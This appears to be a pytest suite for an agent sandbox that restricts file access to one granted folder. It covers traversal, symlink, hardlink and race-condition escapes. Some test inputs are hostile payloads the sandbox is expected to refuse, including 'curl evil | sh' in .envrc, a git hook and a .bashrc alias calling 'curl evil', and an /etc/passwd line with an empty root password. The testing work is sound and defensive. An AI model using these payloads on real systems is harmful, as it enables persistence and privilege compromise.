"""Host-side file access within a granted folder, attacked with the usual escapes."""

from __future__ import annotations

import ctypes
import errno
import hashlib
import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from errand.sandbox import files
from errand.sandbox.errors import PathRefused, SandboxUnavailable
from errand.sandbox.files import Entry, GrantedRoot

Snapshot = dict[str, tuple[str, bytes, int]]

_libc = ctypes.CDLL(None, use_errno=True)
_AT_FDCWD = -100
_RENAME_EXCHANGE = 2


def snapshot(top: Path) -> Snapshot:
    """Every path under ``top`` (not following links) with its kind, content and mode."""
    out: Snapshot = {}
    for dirpath, dirnames, filenames in os.walk(top, followlinks=False):
        for name in [*dirnames, *filenames]:
            path = Path(dirpath, name)
            info = path.lstat()
            if stat.S_ISLNK(info.st_mode):
                out[str(path)] = ("link", os.readlink(path).encode(), 0)
            elif stat.S_ISREG(info.st_mode):
                out[str(path)] = ("file", path.read_bytes(), stat.S_IMODE(info.st_mode))
            else:
                out[str(path)] = ("other", b"", stat.S_IMODE(info.st_mode))
    return out


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def exchange(a: Path, b: Path) -> None:
    """Swap two names atomically (renameat2 RENAME_EXCHANGE)."""
    rc = _libc.renameat2(_AT_FDCWD, bytes(a), _AT_FDCWD, bytes(b), _RENAME_EXCHANGE)
    if rc != 0:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A directory next to the grant that must never be read or changed through it."""
    out = tmp_path / "outside"
    out.mkdir()
    (out / "secret.txt").write_bytes(b"OUTSIDE SECRET\n")
    (out / "data.txt").write_bytes(b"OUTSIDE SECRET\n")
    return out


@pytest.fixture
def root_dir(tmp_path: Path, outside: Path) -> Path:
    root = tmp_path / "granted"
    (root / "src").mkdir(parents=True)
    (root / "src" / "main.py").write_text("print('hi')\n", encoding="utf-8")
    (root / "src" / "util.py").write_text("x = 1\n", encoding="utf-8")
    (root / "README.md").write_text("# project\n", encoding="utf-8")
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("[core]\n", encoding="utf-8")
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    (root / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\n", encoding="utf-8")
    (root / "to_passwd").symlink_to("/etc/passwd")
    (root / "to_secret").symlink_to(outside / "secret.txt")
    (root / "up_secret").symlink_to("../outside/secret.txt")
    (root / "out_dir").symlink_to(outside)
    (root / "src_link").symlink_to("src")
    (root / "main_link").symlink_to("src/main.py")
    return root


@pytest.fixture
def granted(root_dir: Path) -> Iterator[GrantedRoot]:
    with GrantedRoot(root_dir, writable=True) as root:
        yield root


@pytest.fixture
def read_only(root_dir: Path) -> Iterator[GrantedRoot]:
    with GrantedRoot(root_dir, writable=False) as root:
        yield root


# -- reading ---------------------------------------------------------------------------------


def test_reads_are_binary_safe_and_truncate_at_max_bytes(
    granted: GrantedRoot, root_dir: Path
) -> None:
    payload = bytes(range(256)) * 10
    (root_dir / "blob.bin").write_bytes(payload)
    assert granted.read_bytes("blob.bin", max_bytes=10_000) == (payload, False)
    assert granted.read_bytes("blob.bin", max_bytes=len(payload)) == (payload, False)
    assert granted.read_bytes("blob.bin", max_bytes=100) == (payload[:100], True)
    assert granted.read_bytes("blob.bin", max_bytes=0) == (b"", True)
    assert granted.read_bytes("./src//main.py", max_bytes=100) == (b"print('hi')\n", False)


def test_reading_a_directory_or_missing_file_fails_plainly(granted: GrantedRoot) -> None:
    with pytest.raises(IsADirectoryError):
        granted.read_bytes("src", max_bytes=10)
    with pytest.raises(FileNotFoundError):
        granted.read_bytes("src/missing.py", max_bytes=10)


def test_protected_paths_can_be_read(granted: GrantedRoot) -> None:
    assert granted.read_bytes(".git/config", max_bytes=100) == (b"[core]\n", False)


@pytest.mark.parametrize(
    "rel",
    [
        "../outside/secret.txt",
        "src/../../outside/secret.txt",
        "..",
        "/etc/passwd",
        "/",
        "src/\x00main.py",
        "to_passwd",
        "to_secret",
        "up_secret",
        "out_dir/secret.txt",
        "main_link",
    ],
)
def test_reads_outside_or_through_links_are_refused(granted: GrantedRoot, rel: str) -> None:
    with pytest.raises(PathRefused) as refused:
        granted.read_bytes(rel, max_bytes=1000)
    assert str(refused.value)  # a sentence the model can read


def test_symlinks_inside_the_grant_are_followed_mid_path_when_reading(
    granted: GrantedRoot,
) -> None:
    assert granted.read_bytes("src_link/main.py", max_bytes=100)[0] == b"print('hi')\n"


def test_pipes_and_devices_are_never_opened(granted: GrantedRoot, root_dir: Path) -> None:
    os.mkfifo(root_dir / "pipe")
    with pytest.raises(PathRefused, match="not a regular file"):
        granted.read_bytes("pipe", max_bytes=10)  # would block forever if opened
    if os.geteuid() == 0:
        os.mknod(root_dir / "null", stat.S_IFCHR | 0o600, os.makedev(1, 3))
        with pytest.raises(PathRefused, match="not a regular file"):
            granted.read_bytes("null", max_bytes=10)


def test_stat_describes_without_following(granted: GrantedRoot) -> None:
    assert granted.stat("src/main.py").kind == "file"
    assert granted.stat("src/main.py").size == len("print('hi')\n")
    assert granted.stat("src").kind == "dir"
    assert granted.stat("out_dir").kind == "symlink"
    assert granted.stat("to_passwd").kind == "symlink"
    assert granted.stat(".").kind == "dir"
    with pytest.raises(PathRefused):
        granted.stat("out_dir/secret.txt")


def test_list_dir_sorts_and_bounds(granted: GrantedRoot, root_dir: Path) -> None:
    entries, truncated = granted.list_dir("src")
    assert [(e.name, e.kind) for e in entries] == [("main.py", "file"), ("util.py", "file")]
    assert not truncated
    everything, _ = granted.list_dir()
    kinds = {e.name: e.kind for e in everything}
    assert kinds["out_dir"] == "symlink" and kinds[".git"] == "dir"
    some, truncated = granted.list_dir(".", limit=2)
    assert len(some) == 2 and truncated
    assert all(isinstance(e, Entry) for e in some)
    with pytest.raises(PathRefused):
        granted.list_dir("out_dir")
    with pytest.raises(PathRefused):
        granted.list_dir("..")


def test_glob_matches_without_entering_symlinked_dirs(granted: GrantedRoot) -> None:
    assert granted.glob("**/*.py", limit=100) == (["src/main.py", "src/util.py"], False)
    assert granted.glob("src/*.py", limit=100) == (["src/main.py", "src/util.py"], False)
    assert granted.glob("*.md", limit=100) == (["README.md"], False)
    assert granted.glob("src/m?in.[p]y", limit=100) == (["src/main.py"], False)
    everything, _ = granted.glob("**", limit=1000)
    assert not any(path.endswith("secret.txt") for path in everything)
    assert "out_dir" in everything  # listed, not entered
    assert not any(path.startswith(("out_dir/", "src_link/")) for path in everything)
    paths, truncated = granted.glob("**/*.py", limit=1)
    assert len(paths) == 1 and truncated
    with pytest.raises(PathRefused):
        granted.glob("../outside/*", limit=10)
    with pytest.raises(PathRefused):
        granted.glob("/etc/*", limit=10)


# -- writing ---------------------------------------------------------------------------------


def test_write_creates_parents_and_leaves_no_temporary_files(
    granted: GrantedRoot, root_dir: Path
) -> None:
    granted.write_bytes("new/deep/file.bin", b"\x00\xffdata")
    assert (root_dir / "new" / "deep" / "file.bin").read_bytes() == b"\x00\xffdata"
    granted.write_bytes("new/deep/file.bin", b"second")
    assert (root_dir / "new" / "deep" / "file.bin").read_bytes() == b"second"
    assert os.listdir(root_dir / "new" / "deep") == ["file.bin"]
    with pytest.raises(FileNotFoundError):
        granted.write_bytes("absent/file.txt", b"x", make_parents=False)
    with pytest.raises(IsADirectoryError):
        granted.write_bytes("src", b"x")


def test_write_keeps_the_permission_bits_of_a_replaced_file(
    granted: GrantedRoot, root_dir: Path
) -> None:
    script = root_dir / "run.sh"
    script.write_text("#!/bin/sh\n", encoding="utf-8")
    script.chmod(0o750)
    granted.write_bytes("run.sh", b"#!/bin/sh\necho hi\n")
    assert stat.S_IMODE(script.stat().st_mode) == 0o750


@pytest.mark.parametrize(
    "rel",
    [
        "../outside/new.txt",
        "/tmp/errand-escape.txt",
        "to_secret",
        "up_secret",
        "out_dir/secret.txt",
        "out_dir/new.txt",
        "src_link/new.py",  # a symlink inside the grant, still refused for writes
        "main_link",
    ],
)
def test_writes_outside_or_through_links_are_refused(
    granted: GrantedRoot, root_dir: Path, outside: Path, rel: str
) -> None:
    before_outside, before_root = snapshot(outside), snapshot(root_dir)
    with pytest.raises(PathRefused):
        granted.write_bytes(rel, b"PWNED")
    assert snapshot(outside) == before_outside
    assert snapshot(root_dir) == before_root
    assert not Path("/tmp/errand-escape.txt").exists()


def test_write_through_a_link_to_etc_passwd_is_refused(
    granted: GrantedRoot, root_dir: Path
) -> None:
    before = digest(Path("/etc/passwd"))
    with pytest.raises(PathRefused):
        granted.write_bytes("to_passwd", b"root::0:0::/root:/bin/sh\n")
    with pytest.raises(PathRefused):
        granted.replace_text("to_passwd", "root", "toor")
    assert digest(Path("/etc/passwd")) == before
    assert os.readlink(root_dir / "to_passwd") == "/etc/passwd"


def test_a_hardlinked_file_is_replaced_never_modified(
    granted: GrantedRoot, root_dir: Path, outside: Path
) -> None:
    os.link(outside / "secret.txt", root_dir / "hardlink.txt")
    assert (outside / "secret.txt").stat().st_nlink == 2
    granted.write_bytes("hardlink.txt", b"replaced")
    assert (outside / "secret.txt").read_bytes() == b"OUTSIDE SECRET\n"
    assert (root_dir / "hardlink.txt").read_bytes() == b"replaced"
    assert (outside / "secret.txt").stat().st_nlink == 1
    os.link(outside / "data.txt", root_dir / "hardlink2.txt")
    granted.replace_text("hardlink2.txt", "SECRET", "changed")
    assert (outside / "data.txt").read_bytes() == b"OUTSIDE SECRET\n"


# -- protected paths -------------------------------------------------------------------------


def attempt_is_refused(root_dir: Path, action: object) -> None:
    assert callable(action)
    before = snapshot(root_dir)
    with pytest.raises(PathRefused):
        action()
    assert snapshot(root_dir) == before


def test_protected_paths_cannot_be_written_created_or_replaced(
    granted: GrantedRoot, root_dir: Path
) -> None:
    (root_dir / "evil").write_text("[core]\n\thooksPath = /tmp\n", encoding="utf-8")
    attacks = [
        lambda: granted.write_bytes(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil\n"),
        lambda: granted.write_bytes(".git/hooks/post-checkout", b"#!/bin/sh\n"),
        lambda: granted.write_bytes(".git/config", b"[core]\n\thooksPath = /tmp\n"),
        lambda: granted.replace_text(".git/config", "[core]", "[evil]"),
        lambda: granted.write_bytes(".envrc", b"curl evil | sh\n"),
        lambda: granted.write_bytes(".GIT/HOOKS/pre-commit", b"#!/bin/sh\n"),
        lambda: granted.write_bytes(".Envrc", b"x"),
        lambda: granted.write_bytes(".github/workflows/ci.yml", b"on: push\n"),
        lambda: granted.write_bytes(".vscode/tasks.json", b"{}"),
        lambda: granted.write_bytes(".bashrc", b"alias ls='curl evil'\n"),
        lambda: granted.write_bytes(".errand/config.toml", b"x"),
        lambda: granted.write_bytes(".git", b"gitdir: /tmp/evil\n"),
        lambda: granted.rename("evil", ".git/config", overwrite=True),
        lambda: granted.rename("evil", ".envrc"),
        lambda: granted.rename(".git/config", "stolen-config"),
        lambda: granted.rename(".git", "git-away"),
        lambda: granted.rename(".git/hooks", "hooks-away"),
        lambda: granted.remove(".git/config"),
        lambda: granted.remove(".git/hooks/pre-commit"),
        lambda: granted.remove(".git"),
        lambda: granted.mkdir(".github/workflows"),
        lambda: granted.mkdir(".idea"),
        lambda: granted.mkdir(".github"),
        lambda: granted.remove("."),
        lambda: granted.write_bytes(".", b"x"),
    ]
    for attack in attacks:
        attempt_is_refused(root_dir, attack)


def test_ordinary_files_inside_git_stay_writable(granted: GrantedRoot, root_dir: Path) -> None:
    granted.write_bytes(".git/HEAD", b"ref: refs/heads/other\n")
    assert (root_dir / ".git" / "HEAD").read_bytes() == b"ref: refs/heads/other\n"


def test_creating_a_missing_git_dir_is_refused(tmp_path: Path) -> None:
    bare = tmp_path / "bare"
    bare.mkdir()
    with GrantedRoot(bare, writable=True) as root:
        attempt_is_refused(bare, lambda: root.write_bytes(".git/HEAD", b"ref: x\n"))
        attempt_is_refused(bare, lambda: root.mkdir(".git"))
        root.write_bytes("fine.txt", b"ok")
    assert sorted(os.listdir(bare)) == ["fine.txt"]


def test_delete_and_recreate_of_a_protected_file_is_refused(
    granted: GrantedRoot, root_dir: Path
) -> None:
    attempt_is_refused(root_dir, lambda: granted.remove(".git/hooks/pre-commit"))
    attempt_is_refused(root_dir, lambda: granted.write_bytes(".git/hooks/pre-commit", b"x"))
    # Even after the user removed it, the agent cannot put it back.
    (root_dir / ".git" / "hooks" / "pre-commit").unlink()
    attempt_is_refused(root_dir, lambda: granted.write_bytes(".git/hooks/pre-commit", b"x"))


def test_read_only_grant_refuses_every_write(read_only: GrantedRoot, root_dir: Path) -> None:
    attacks = [
        lambda: read_only.write_bytes("README.md", b"changed"),
        lambda: read_only.write_bytes("new.txt", b"created"),
        lambda: read_only.replace_text("README.md", "project", "changed"),
        lambda: read_only.remove("README.md"),
        lambda: read_only.rename("README.md", "moved.md"),
        lambda: read_only.mkdir("newdir"),
        lambda: read_only.write_bytes("src/main.py", b""),  # truncate
    ]
    for attack in attacks:
        attempt_is_refused(root_dir, attack)
    assert read_only.read_bytes("README.md", max_bytes=100) == (b"# project\n", False)


# -- editing, moving, removing ---------------------------------------------------------------


def test_replace_text_changes_exactly_one_occurrence(granted: GrantedRoot, root_dir: Path) -> None:
    (root_dir / "code.py").write_text("a = 1\nb = 2\nb = 2\r\n", encoding="utf-8")
    assert granted.replace_text("code.py", "a = 1", "a = 10") == 1
    assert (root_dir / "code.py").read_bytes() == b"a = 10\nb = 2\nb = 2\r\n"
    before = snapshot(root_dir)
    with pytest.raises(ValueError, match="occurs 2 times"):
        granted.replace_text("code.py", "b = 2", "b = 3")
    with pytest.raises(ValueError, match="not found"):
        granted.replace_text("code.py", "c = 3", "c = 4")
    with pytest.raises(ValueError, match="empty"):
        granted.replace_text("code.py", "", "x")
    assert snapshot(root_dir) == before


def test_rename_mkdir_and_remove_within_the_grant(granted: GrantedRoot, root_dir: Path) -> None:
    granted.mkdir("a/b")
    granted.mkdir("a/b")  # exists: fine
    with pytest.raises(FileExistsError):
        granted.mkdir("a/b", exist_ok=False)
    granted.write_bytes("a/b/f.txt", b"1")
    granted.write_bytes("a/g.txt", b"2")
    with pytest.raises(FileExistsError):
        granted.rename("a/b/f.txt", "a/g.txt")
    granted.rename("a/b/f.txt", "a/g.txt", overwrite=True)
    assert (root_dir / "a" / "g.txt").read_bytes() == b"1"
    granted.remove("a/g.txt")
    granted.remove("a/b")
    granted.remove("to_secret")  # removes the link, not its target
    assert not (root_dir / "to_secret").is_symlink()
    assert sorted(os.listdir(root_dir / "a")) == []
    with pytest.raises(PathRefused):
        granted.remove("out_dir/secret.txt")
    with pytest.raises(PathRefused):
        granted.rename("README.md", "out_dir/README.md")
    with pytest.raises(PathRefused):
        granted.rename("README.md", "../outside/README.md")


# -- races -----------------------------------------------------------------------------------


FLIP_SCRIPT = """
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
a, b, limit = sys.argv[1].encode(), sys.argv[2].encode(), int(sys.argv[3])
print("ready", flush=True)
for flips in range(limit):
    if libc.renameat2(-100, a, -100, b, 2) != 0:
        sys.exit("renameat2 failed")
"""


class Flipper:
    """Swaps two names back and forth from another process (so on another core, with no
    interpreter lock between it and the calls under test), a bounded number of times."""

    def __init__(self, a: Path, b: Path, *, limit: int = 2_000_000) -> None:
        self._argv = [sys.executable, "-c", FLIP_SCRIPT, str(a), str(b), str(limit)]
        self._process: subprocess.Popen[str] | None = None

    def __enter__(self) -> Flipper:
        self._process = subprocess.Popen(self._argv, stdout=subprocess.PIPE, text=True)
        assert self._process.stdout is not None
        assert self._process.stdout.readline() == "ready\n"
        return self

    def __exit__(self, *exc: object) -> None:
        assert self._process is not None
        self._process.kill()
        self._process.wait(timeout=10)
        assert self._process.stdout is not None
        self._process.stdout.close()


RACE_ROUNDS = 400
RACE_MAX_ROUNDS = 5000  # on a busy machine it can take longer to see both sides of the race


def race_done(round_no: int, seen: list[bytes], refused: int) -> bool:
    """Whether the race has run long enough and been seen both ways."""
    return round_no >= RACE_ROUNDS and bool(seen) and refused > 0


EXPECTED_RACE_ERRORS = (PathRefused, FileNotFoundError, NotADirectoryError, IsADirectoryError)


def test_a_directory_swapped_for_an_outside_link_mid_call_never_leaks(
    granted: GrantedRoot, root_dir: Path, outside: Path
) -> None:
    (root_dir / "flip").mkdir()
    (root_dir / "flip" / "data.txt").write_bytes(b"inside\n")
    (root_dir / "spare").symlink_to(outside)
    before = snapshot(outside)
    seen: list[bytes] = []
    refused = 0
    with Flipper(root_dir / "flip", root_dir / "spare"):
        for i in range(RACE_MAX_ROUNDS):
            if race_done(i, seen, refused):
                break
            try:
                seen.append(granted.read_bytes("flip/data.txt", max_bytes=100)[0])
            except EXPECTED_RACE_ERRORS:
                refused += 1
            try:
                granted.write_bytes(f"flip/written-{i}.txt", b"PWNED")
            except EXPECTED_RACE_ERRORS:
                refused += 1
            try:
                listed, _ = granted.glob("flip/*", limit=100)
                assert not any(path.endswith("secret.txt") for path in listed)
            except EXPECTED_RACE_ERRORS:
                refused += 1
    assert set(seen) <= {b"inside\n"}  # never leaked
    assert refused > 0
    assert snapshot(outside) == before


def test_a_file_swapped_for_an_outside_link_mid_call_never_leaks(
    granted: GrantedRoot, root_dir: Path, outside: Path
) -> None:
    (root_dir / "target.txt").write_bytes(b"inside\n")
    (root_dir / "spare.txt").symlink_to(outside / "secret.txt")
    before = snapshot(outside)
    seen: list[bytes] = []
    refused = 0
    with Flipper(root_dir / "target.txt", root_dir / "spare.txt"):
        for i in range(RACE_MAX_ROUNDS):
            if race_done(i, seen, refused):
                break
            try:
                seen.append(granted.read_bytes("target.txt", max_bytes=100)[0])
            except EXPECTED_RACE_ERRORS:
                refused += 1
            try:
                granted.replace_text("target.txt", "inside", "inside")
            except (*EXPECTED_RACE_ERRORS, ValueError):
                refused += 1
    assert set(seen) <= {b"inside\n"}
    assert refused > 0
    assert snapshot(outside) == before


# -- failing closed --------------------------------------------------------------------------


def test_without_openat2_the_grant_refuses_to_open(
    root_dir: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def no_openat2(dir_fd: int, path: str, flags: int, resolve: int, mode: int = 0) -> int:
        raise OSError(errno.ENOSYS, os.strerror(errno.ENOSYS), path)

    monkeypatch.setattr(files, "_openat2", no_openat2)
    with pytest.raises(SandboxUnavailable, match="openat2"):
        GrantedRoot(root_dir, writable=True)


def test_a_closed_grant_refuses_further_calls(root_dir: Path) -> None:
    root = GrantedRoot(root_dir, writable=True)
    root.close()
    root.close()
    with pytest.raises(ValueError, match="closed"):
        root.read_bytes("README.md", max_bytes=10)


def test_long_unicode_names_can_be_written(granted: GrantedRoot, root_dir: Path) -> None:
    name = "é" * 120  # 240 bytes: the temporary name beside it must still fit
    granted.write_bytes(name, b"ok")
    assert (root_dir / name).read_bytes() == b"ok"


def test_errand_own_directory_is_invisible_to_file_tools(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = tmp_path / "data"
    data.mkdir()
    (data / "server.json").write_text('{"admin_secret": "s"}', encoding="utf-8")
    (tmp_path / "via-link").symlink_to("data")
    monkeypatch.setenv("ERRAND_HOME", str(data))
    with GrantedRoot(tmp_path, writable=True) as root:
        for rel in ("data/server.json", "via-link/server.json"):
            with pytest.raises(FileNotFoundError):
                root.read_bytes(rel, max_bytes=100)
        with pytest.raises(FileNotFoundError):
            root.write_bytes("data/errand.toml", b"x")
        with pytest.raises(FileNotFoundError):
            root.list_dir("data")
        assert root.glob("**/server.json", limit=10) == ([], False)
    assert not (data / "errand.toml").exists()
    with pytest.raises(PathRefused, match="Errand's own directory"):
        GrantedRoot(data, writable=False)
